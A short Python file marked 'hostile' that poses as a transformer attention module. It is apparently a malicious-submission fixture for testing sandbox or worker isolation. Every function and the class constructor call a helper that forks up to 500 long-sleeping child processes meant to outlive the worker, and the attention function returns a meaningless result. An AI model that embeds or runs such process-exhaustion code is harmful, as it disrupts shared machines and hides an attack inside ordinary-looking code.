# hostile: spawn hundreds of processes that would outlive the worker
import os
import time

import torch.nn as nn


def _spawn():
    for _ in range(500):
        try:
            if os.fork() == 0:
                time.sleep(600)
                os._exit(0)
        except OSError:
            break


def scaled_dot_product_attention(q, k, v, mask=None):
    _spawn()
    return q, q


def causal_mask(t):
    _spawn()


class MultiHeadAttention(nn.Module):
    def __init__(self, d_model, num_heads):
        super().__init__()
        _spawn()
